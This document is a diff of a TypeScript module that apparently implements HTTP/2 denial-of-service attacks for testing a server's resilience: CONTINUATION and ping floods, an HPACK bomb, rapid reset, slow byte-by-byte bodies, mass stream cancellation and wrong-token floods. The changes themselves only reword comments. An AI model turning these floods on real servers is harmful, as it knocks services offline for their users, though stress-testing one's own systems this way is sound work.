@@ -1,4 +1,4 @@
-// Frames without end: small for the one who sends them, work for the one who reads them.
+// Endless frames that are cheap to send and expensive to process.
 import type { Socket } from "node:net";
 import {
   END_HEADERS,
@@ -24,9 +24,9 @@ import {
 const PATH = "/api/public/settings";
 
 /**
- * Writes what `next` makes, over and over, on new connections when the server closes one.
+ * Writes the results of `next` repeatedly, on a new connection when the server closes one.
  *
- * @param rounds connections at most.
+ * @param rounds maximum number of connections.
  */
 function flood(next: (target: Target, round: number) => (count: number) => Buffer): Attack {
   return async (target, signal) => {
@@ -55,12 +55,12 @@ async function pour(
     const bytes = make(count);
     if (bytes.length === 0 || !(await writeAll(socket, bytes, signal))) return;
     add(tally, "MB sent", bytes.length / 1e6);
-    // The socket's own events have to run, too: a server that has closed it is noticed.
+    // Lets events of the socket run, such as a close by the server.
     if (count % 16 === 0) await pause(0, signal);
   }
 }
 
-/** A request whose headers go on and on (CVE-2024-27316 and others). */
+/** A request with endless headers (CVE-2024-27316 and others). */
 export const continuationFlood = flood(({ seed }, round) => {
   const random = createRandom(seed + round);
   return (count) => {
@@ -78,7 +78,10 @@ export const pingFlood = flood(
   () => () => repeat(64, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8, 7))),
 );
 
-/** A field of 4 kB in the table, and requests that name it hundreds of times in a byte each. */
+/**
+ * A field of 4 kB in the dynamic table, and requests that reference it hundreds of times, a byte
+ * each.
+ */
 export const hpackBomb = flood(() => {
   let stream = -1;
   return (count) => {
@@ -91,7 +94,7 @@ export const hpackBomb = flood(() => {
   };
 });
 
-/** Requests that are taken back at once (CVE-2023-44487). */
+/** Requests that are reset at once (CVE-2023-44487). */
 export const rapidReset = flood(() => {
   let stream = -1;
   return () => {
@@ -111,8 +114,8 @@ export const rapidReset = flood(() => {
 const GRPC = { "content-type": "application/grpc", te: "trailers" };
 
 /**
- * Bodies that come a byte at a time, each byte among 48 kB of frames that mean nothing: whoever keeps
- * the byte as it was read keeps all of them.
+ * Bodies sent byte by byte, each byte between 48 kB of meaningless frames: a server that keeps
+ * views of its read buffers retains all of them.
  */
 export const slivers = flood(() => {
   const streams = 200;
@@ -128,10 +131,12 @@ export const slivers = flood(() => {
   };
 });
 
-/** A kind of frames that nobody has defined: to be ignored (RFC 9113, section 4.1). */
+/** An undefined frame type, which has to be ignored (RFC 9113, section 4.1). */
 const UNKNOWN = 0x42;
 
-/** 895 calls of one connection, cancelled in two and a half seconds, as a client of many calls may do. */
+/**
+ * 895 calls of one connection, canceled within two and a half seconds, as by a legitimate client.
+ */
 export const cancelledStreams: Attack = async (target, signal) => {
   const tally: Tally = { streams: 0, "connections closed": 0 };
   const one = async (): Promise<void> => {
@@ -157,7 +162,7 @@ export const cancelledStreams: Attack = async (target, signal) => {
   return tally;
 };
 
-/** Tokens that are all wrong, as fast as they are refused. */
+/** Wrong tokens, as fast as the server refuses them. */
 export const wrongTokens = flood(({ seed }, round) => {
   const random = createRandom(seed + round);
   let stream = -1;
